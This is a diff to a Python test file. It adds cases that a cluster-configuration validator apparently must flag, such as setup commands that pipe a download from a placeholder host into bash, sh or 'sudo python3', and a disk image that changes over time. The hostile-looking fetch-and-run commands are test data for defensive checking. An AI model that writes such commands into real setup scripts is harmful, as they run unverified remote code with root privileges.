@@ -187,6 +187,29 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
         lambda config: config["setup_commands"].append("curl -LsSf https://a.example/x | sudo sh"),
         "setup_commands: 'curl -LsSf https://a.example/x | sudo sh': runs an unchecked download",
     ),
+    "what a server sends to bash": (
+        GCP,
+        lambda config: config["head_setup_commands"].append("bash <(curl -s https://a.example/x)"),
+        "head_setup_commands: 'bash <(curl -s https://a.example/x)': runs an unchecked download",
+    ),
+    "what a server sends to a shell's argument": (
+        LOCAL,
+        put("initialization_commands", ['sh -c "$(wget -qO- https://a.example/x)"']),
+        "initialization_commands: 'sh -c \"$(wget -qO- https://a.example/x)': runs an unchecked",
+    ),
+    "what a server sends to Python": (
+        AWS,
+        put(f"{SPOT}.worker_setup_commands", ["curl https://a.example/x | sudo -E python3 -"]),
+        f"{SPOT}.worker_setup_commands: 'curl https://a.example/x | sudo -E python3': runs",
+    ),
+    "an image of a family": (
+        GCP,
+        lambda config: config["available_node_types"]["head"]["node_config"]["disks"][0][
+            "initializeParams"
+        ].update(sourceImage="projects/x/global/images/family/y"),
+        "available_node_types.head.node_config.disks.initializeParams.sourceImage="
+        "'projects/x/global/images/family/y': it changes over time",
+    ),
     "another image each day": (
         AWS,
         put(f"{SPOT}.node_config.ImageId", "resolve:ssm:/aws/service/x/latest/ami-id"),
